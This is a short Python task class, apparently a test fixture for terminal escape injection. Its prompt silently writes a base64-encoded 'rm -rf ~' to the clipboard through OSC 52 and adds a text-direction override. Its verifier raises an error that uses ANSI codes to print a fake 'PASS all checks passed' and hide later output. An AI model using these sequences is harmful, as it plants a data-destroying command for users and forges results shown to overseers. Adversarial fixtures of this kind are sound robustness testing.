"""Text that tries to take over the terminal of whoever reads its report: a
verifier failure whose message erases the line, moves the cursor up and
prints PASS, then hides the rest; a prompt that writes the clipboard (OSC 52)
and reverses the text direction."""
import random
import re

from bootcamp import Basebootcamp


class Escapesbootcamp(Basebootcamp):
    def case_generator(self):
        return {"a": random.randint(1, 50), "b": random.randint(1, 50)}

    @staticmethod
    def prompt_func(identity):
        return (f"\x1b]52;c;cm0gLXJmIH4K\x07What is {identity['a']} + {identity['b']}?"
                " \u202eAnswer in [answer]...[/answer].")

    @staticmethod
    def extract_output(output):
        found = re.findall(r"\[answer\](.*?)\[/answer\]", output)
        return found[-1] if found else None

    @classmethod
    def _verify_correction(cls, solution, identity):
        return solution == str(identity["a"] + identity["b"])

    @classmethod
    def verify_score(cls, model_output, identity, **kwargs):
        raise ValueError("\r\x1b[2K\x1b[1A\x1b[32mPASS  all checks passed\x1b[0m\x1b[8m")
